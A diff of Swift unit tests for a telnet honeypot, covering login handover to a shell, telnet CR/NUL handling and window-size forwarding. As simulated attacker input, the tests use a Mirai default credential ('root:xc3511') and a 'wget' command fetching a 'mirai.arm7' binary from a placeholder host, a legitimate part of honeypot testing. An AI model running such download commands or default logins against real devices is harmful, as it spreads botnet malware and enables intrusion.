@@ -5,9 +5,7 @@ import MitsuCore
 final class TelnetSessionTests: XCTestCase {
     func session() -> TelnetSession {
         TelnetSession(session: .random(), endpoints: Endpoints(srcIP: "203.0.113.5", srcPort: 4000, destIP: "192.0.2.1", destPort: 23),
-                      hostname: "web01", policy: LoginPolicy(rules: [LoginPolicy.rule("root:xc3511")!], acceptAfter: 0)) { user, id in
-            MinimalShell(honeypot: "telnet", session: id, hostname: "web01", user: user)
-        }
+                      hostname: "web01", policy: LoginPolicy(rules: [LoginPolicy.rule("root:xc3511")!], acceptAfter: 0))
     }
 
     func sent(_ o: [TelnetOutput]) -> [UInt8] {
@@ -41,11 +39,28 @@ final class TelnetSessionTests: XCTestCase {
         _ = s.receive(Array("root\r\n".utf8))
         out = s.receive(Array("xc3511\r\n".utf8))
         XCTAssertEqual(events(out).first?.kind, .loginSuccess)
-        XCTAssertTrue(sent(out).suffix(14) == Array("root@web01:~# ".utf8))
-        out = s.receive(Array("cd /tmp; wget http://198.51.100.1/mirai.arm7\r\n".utf8))
-        XCTAssertEqual(events(out).map(\.kind), [.commandInput, .commandFailed])
-        XCTAssertEqual(events(out).first?.input, "cd /tmp; wget http://198.51.100.1/mirai.arm7")
-        XCTAssertEqual(events(out).first?.honeypot, "telnet")
+        let start = out.compactMap { if case .startShell(let r) = $0 { return r } else { return nil } }
+        XCTAssertEqual(start.count, 1, "the login hands over to the shell")
+        XCTAssertEqual(start.first?.username, "root")
+        XCTAssertEqual(start.first?.honeypot, "telnet")
+        XCTAssertNil(start.first?.command)
+        XCTAssertEqual(start.first?.terminal?.term, "vt100")
+        XCTAssertEqual(start.first?.endpoints.srcIP, "203.0.113.5")
+        // Telnet's CR LF and CR NUL reach the shell as one CR.
+        out = s.receive(Array("cd /tmp; wget http://198.51.100.1/mirai.arm7\r\n".utf8) + [0x65, 0x0D, 0x00])
+        XCTAssertEqual(out, [.shellInput(.bytes(Array("cd /tmp; wget http://198.51.100.1/mirai.arm7\r".utf8) + [0x65, 0x0D]))])
+        // The shell's "\n" reaches the terminal as "\r\n" (a pty's ONLCR); its exit ends the connection.
+        XCTAssertEqual(s.shellDelivered(.stdout(Array("a\nb\r\n".utf8))), [.send(Array("a\r\nb\r\n".utf8))])
+        XCTAssertEqual(s.shellDelivered(.exit(0)), [.close])
+        XCTAssertEqual(s.shellDelivered(.stdout([0x41])), [], "nothing after the end")
+    }
+
+    func testWindowSizeReachesTheRunningShell() {
+        let s = session()
+        _ = s.start()
+        _ = s.receive(Array("root\r\n".utf8))
+        _ = s.receive(Array("xc3511\r\n".utf8))
+        XCTAssertEqual(s.receive([255, 250, 31, 0, 100, 0, 40, 255, 240]), [.shellInput(.resize(columns: 100, rows: 40))])
     }
 
     func testOptionsAndSubnegotiations() {
